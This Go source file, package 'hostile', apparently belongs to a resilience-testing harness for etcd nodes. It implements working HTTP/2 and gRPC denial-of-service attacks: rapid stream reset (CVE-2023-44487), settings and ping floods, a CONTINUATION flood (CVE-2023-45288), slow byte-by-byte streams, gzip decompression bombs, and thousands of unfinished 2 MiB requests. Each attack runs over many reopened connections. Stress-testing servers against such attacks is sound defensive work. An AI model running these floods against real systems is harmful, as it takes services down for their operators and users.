package hostile

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"strings"
	"time"

	"go.etcd.io/etcd/api/v3/etcdserverpb"
	"golang.org/x/net/http2"
)

// floods runs an attack on the given number of HTTP/2 connections, and reopens the ones that the
// node ends.
func floods(conns int, f func(ctx context.Context, a *attacker, h *h2) error) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		return a.many(ctx, conns, func(ctx context.Context, _ int) error {
			h, err := a.h2(ctx)
			if err != nil {
				return err
			}
			defer h.conn.Close()
			a.did("connections", 1)
			return f(ctx, a, h)
		})
	}
}

// rapidReset opens streams and resets each at once (CVE-2023-44487).
func rapidReset(ctx context.Context, a *attacker, h *h2) error {
	h.discard()
	for ctx.Err() == nil {
		for range 100 {
			id := h.call(etcdserverpb.Watch_Watch_FullMethodName, createRequest(etcdAPI, 0, everything, everythingEnd, 0), true)
			_ = h.WriteRSTStream(id, http2.ErrCodeCancel) // to a buffer
		}
		if err := h.send(); err != nil {
			return nil //nolint:nilerr // the node ends the connection, as it may
		}
		a.did("streams", 100)
	}
	return nil
}

// settingsFlood sends settings, which the node must acknowledge, and reads nothing.
func settingsFlood(ctx context.Context, a *attacker, h *h2) error {
	for ctx.Err() == nil {
		for range 1000 {
			_ = h.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: hugeWindow}) // to a buffer
		}
		if err := h.send(); err != nil {
			return nil //nolint:nilerr // the node ends the connection, as it may
		}
		a.did("settings", 1000)
	}
	return nil
}

// pingFlood sends pings and reads nothing.
func pingFlood(ctx context.Context, a *attacker, h *h2) error {
	for ctx.Err() == nil {
		for range 1000 {
			_ = h.WritePing(false, [8]byte{1}) // to a buffer
		}
		if err := h.send(); err != nil {
			return nil //nolint:nilerr // the node ends the connection, as it may
		}
		a.did("pings", 1000)
	}
	return nil
}

// continuationFlood sends a header without an end (CVE-2023-45288).
func continuationFlood(ctx context.Context, a *attacker, h *h2) error {
	h.discard()
	_ = h.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.headers(etcdserverpb.Watch_Watch_FullMethodName)}) // to a buffer
	for ctx.Err() == nil {
		for range 16 {
			_ = h.WriteContinuation(1, false, h.headers("/", "x", strings.Repeat("y", 8<<10))) // to a buffer
		}
		if err := h.send(); err != nil {
			return nil //nolint:nilerr // the node ends the connection, as it may
		}
		a.did("frames", 16)
	}
	return nil
}

// slowStream sends a request byte by byte on many streams.
func slowStream(ctx context.Context, a *attacker, h *h2) error {
	const streams = 100
	h.discard()
	request := framed(createRequest(etcdAPI, 0, everything, everythingEnd, 0))
	for i := range streams {
		_ = h.WriteHeaders(http2.HeadersFrameParam{
			StreamID: uint32(2*i + 1), BlockFragment: h.headers(etcdserverpb.KV_Range_FullMethodName), EndHeaders: true,
		}) // to a buffer
	}
	for at := 0; at < len(request) && pause(ctx, 100*time.Millisecond) == nil; at++ {
		for i := range streams {
			_ = h.WriteData(uint32(2*i+1), false, request[at:at+1]) // to a buffer
		}
		if err := h.send(); err != nil {
			return nil //nolint:nilerr // the node ends the connection, as it may
		}
		a.did("bytes", streams)
	}
	return nil
}

// gzipBombs sends requests that grow a thousandfold when decompressed.
func gzipBombs(ctx context.Context, a *attacker, h *h2) error {
	var bomb bytes.Buffer
	w := gzip.NewWriter(&bomb)
	zeros := make([]byte, 1<<20)
	for range 32 {
		if _, err := w.Write(zeros); err != nil {
			return err
		}
	}
	if err := w.Close(); err != nil {
		return err
	}
	message := append(binary.BigEndian.AppendUint32([]byte{1}, uint32(bomb.Len())), bomb.Bytes()...)
	h.discard()
	for ctx.Err() == nil {
		id := h.next
		h.next += 2
		_ = h.WriteHeaders(http2.HeadersFrameParam{
			StreamID: id, BlockFragment: h.headers(etcdserverpb.KV_Range_FullMethodName, "grpc-encoding", "gzip"), EndHeaders: true,
		}) // to a buffer
		for rest := message; len(rest) > 0; {
			n := min(len(rest), 16<<10)
			_ = h.WriteData(id, n == len(rest), rest[:n]) // to a buffer
			rest = rest[n:]
		}
		if err := h.send(); err != nil {
			return nil //nolint:nilerr // the node ends the connection, as it may
		}
		a.did("requests", 1)
		if id > 60 { // the connection's window is used up
			return pause(ctx, 20*time.Millisecond)
		}
	}
	return nil
}

// unfinished starts requests of 2 MiB on many streams and finishes none.
func unfinished(ctx context.Context, a *attacker, h *h2) error {
	const streams, size, piece = 2500, 2<<20 - 1, 16 << 10
	h.discard()
	body := make([]byte, piece)
	for range streams {
		id := h.next
		h.open(etcdserverpb.KV_Put_FullMethodName)
		_ = h.WriteData(id, false, binary.BigEndian.AppendUint32([]byte{0}, size)) // to a buffer
	}
	if err := h.send(); err != nil {
		return nil //nolint:nilerr // the node ends the connection, as it may
	}
	a.did("requests", streams)
	for sent := 0; sent+piece < size; sent += piece {
		for id := uint32(1); id < h.next; id += 2 {
			_ = h.WriteData(id, false, body) // to a buffer
			if h.out.Len() < 1<<20 {
				continue
			}
			if err := h.send(); err != nil {
				return nil //nolint:nilerr // the node ends the connection, as it may
			}
			a.did("MiB", 1)
		}
	}
	<-ctx.Done()
	return nil
}
